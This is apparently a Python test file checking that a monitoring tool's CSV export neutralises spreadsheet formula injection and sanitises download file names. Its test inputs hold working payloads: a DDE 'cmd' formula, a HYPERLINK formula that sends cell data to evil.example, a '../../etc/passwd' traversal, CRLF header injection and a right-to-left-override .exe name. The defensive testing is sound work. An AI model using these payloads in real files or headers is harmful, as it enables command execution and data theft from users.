"""What goes out as a table is only text, and what names a file is only a name (H28)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from email.message import Message

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.model import (
    Condition,
    Health,
    Kind,
    Origin,
    PollState,
    PublisherId,
    Rhythm,
    Source,
    SourceId,
    SourceReport,
    Tier,
)
from monitor.stages.sheet import SOURCE_COLUMNS, content_disposition, neutral, source_row, write_csv

NOW = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    "formula",
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "  \t =cmd|'/C calc'!A0", "＝1+1", "－1",
        "\t", "\rx",
        '=HYPERLINK("https://evil.example/?"&A1,"x")', "\x00=1+1", "\x0b=1",
    ],
)  # fmt: skip
def test_a_cell_that_would_be_a_formula_is_neutralised_h28(formula: str) -> None:
    assert neutral(formula).startswith("'")
    (row,) = list(csv.reader(io.StringIO(write_csv(["a"], [{"a": formula}]).decode(), newline="")))[1:]
    assert row[0].startswith("'")
    assert row[0].rstrip().endswith(formula.strip("\x00\x0b\t\r\n ")[-1:])


@pytest.mark.parametrize("text", ["Plain", "a=b", "1-2", "3 @ 4", "'quoted", 'a "b", c\nd', "", "«é»", "1"])
def test_other_texts_stay_as_they_are(text: str) -> None:
    assert neutral(text) == text
    rows = list(csv.reader(io.StringIO(write_csv(["a", "b"], [{"a": text, "b": 1}]).decode(), newline="")))
    assert rows == [["a", "b"], [text, "1"]]


def test_numbers_times_and_nothing_are_written_plainly() -> None:
    row = {"a": -3, "b": 0.5, "c": NOW, "d": None, "e": True, "f": Kind.FEED}
    assert write_csv(list(row), [row]).decode() == "a,b,c,d,e,f\r\n-3,0.5,2026-03-02T08:00:00+00:00,,true,feed\r\n"


@given(st.text())
def test_no_cell_whatever_is_in_it_begins_as_a_formula_or_breaks_its_row_h28(text: str) -> None:
    rows = list(csv.reader(io.StringIO(write_csv(["a", "b"], [{"a": text, "b": "end"}]).decode(), newline="")))
    assert rows[1][1:] == ["end"]
    assert rows[1][0][:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}


@pytest.mark.parametrize(
    ("name", "header"),
    [
        ("sources.csv", 'attachment; filename="sources.csv"'),
        ("../../etc/passwd", 'attachment; filename="etc-passwd"'),
        ('a"; filename="evil.exe', 'attachment; filename="a- filename-evil.exe"'),
        ("a\r\nSet-Cookie: x=1", 'attachment; filename="a-Set-Cookie- x-1"'),
        ("...", 'attachment; filename="download"'),
        ("NUL.csv", 'attachment; filename="_NUL.csv"'),
        ("Zeitung für KI", "attachment; filename=\"Zeitung f_r KI\"; filename*=UTF-8''Zeitung%20f%C3%BCr%20KI"),
        ("a\u202egnp.exe", 'attachment; filename="a-gnp.exe"'),
    ],
)  # fmt: skip
def test_a_file_name_is_only_a_name_h28(name: str, header: str) -> None:
    assert content_disposition(name) == header


@given(st.text())
def test_whatever_a_file_is_called_the_header_says_one_name_without_a_path_h28(name: str) -> None:
    header = content_disposition(name)
    assert header.isascii()
    assert header.isprintable()
    message = Message()
    message["Content-Disposition"] = header
    assert message.get_content_disposition() == "attachment"
    said = message.get_filename() or ""
    assert said
    assert not set(said) & set('/\\\r\n"')
    assert not said.startswith(".")


def test_a_source_has_every_column_in_order() -> None:
    source = Source(
        id=SourceId("one"),
        name="=One",
        url="https://one.example/",
        origin=Origin.PRESS,
        tier=Tier.SECONDARY,
        publisher=PublisherId("paper"),
        cadence=timedelta(hours=2),
    )
    condition = Condition(health=Health.FAILING, since=NOW, why="It is down.", next_step="Wait.", next_at=NOW)
    report = SourceReport(
        source=source,
        publisher_name="The Paper",
        state=PollState(source=source.id, url=source.url, due_at=NOW),
        condition=condition,
        rhythm=Rhythm(usual_gap=timedelta(hours=36), active_days=2, observed_days=3),
        entry_count=7,
    )
    row = source_row(report)
    assert tuple(row) == SOURCE_COLUMNS
    assert (row["every"], row["usual_gap_days"], row["next_poll_at"]) == ("2h", 1.5, NOW)
    line = write_csv(SOURCE_COLUMNS, [row]).decode().splitlines()[1]
    assert line.startswith("one,'=One,https://one.example/,https://one.example/,feed,,paper,The Paper,press,secondary,")
